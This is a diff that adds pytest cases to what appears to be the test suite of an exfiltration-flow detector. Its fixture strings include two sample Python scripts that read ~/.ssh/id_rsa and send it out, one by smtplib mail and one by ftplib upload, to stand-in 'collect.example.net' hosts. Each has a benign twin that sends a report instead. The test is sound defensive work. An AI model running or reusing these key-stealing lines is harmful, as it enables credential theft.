@@ -412,6 +412,38 @@ SECOND_SENDS = {
 }
 
 
+SERVER_CLIENTS = {
+    # (path, attack, honest twin of the same shape, line, the server the message must name)
+    "python-smtp": (
+        "scripts/mail.py",
+        'import os\nimport smtplib\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
+        'with smtplib.SMTP("mail.collect.example.net") as s:\n    s.sendmail("a@example.com", ["b@example.com"], key)\n',
+        'import os\nimport smtplib\n\nkey = open("dist/summary.txt").read()\n'
+        'with smtplib.SMTP("mail.collect.example.net") as s:\n    s.sendmail("a@example.com", ["b@example.com"], key)\n',
+        6,
+        "smtp://mail.collect.example.net",
+    ),
+    "python-ftp": (
+        "scripts/upload.py",
+        'import ftplib\nimport os\n\nftp = ftplib.FTP("ftp.collect.example.net")\nftp.login()\n'
+        'ftp.storbinary("STOR k", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))\n',
+        'import ftplib\nimport os\n\nftp = ftplib.FTP("ftp.collect.example.net")\nftp.login()\n'
+        'ftp.storbinary("STOR k", open("dist/report.pdf", "rb"))\n',
+        6,
+        "ftp://ftp.collect.example.net",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(SERVER_CLIENTS))
+def test_a_mail_or_ftp_client_sends_to_the_server_it_was_made_for(tmp_path, env, case):  # noqa: F811
+    """smtplib and ftplib name their server when they are made: a key sent through one is a flow to that server (the
+    message named the sender's address or the FTP command instead); a report sent the same way is not."""
+    path, bad, good, line, server = SERVER_CLIENTS[case]
+    hit = stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, FLOW, line)
+    assert server in hit["message"], hit
+
+
 @pytest.mark.parametrize("case", sorted(SECOND_SENDS))
 def test_a_send_through_a_less_common_python_client_names_its_destination(tmp_path, env, case):  # noqa: F811
     """``request("POST", url)``, a client's ``base_url``, a socket's connection and a keyring password: each send
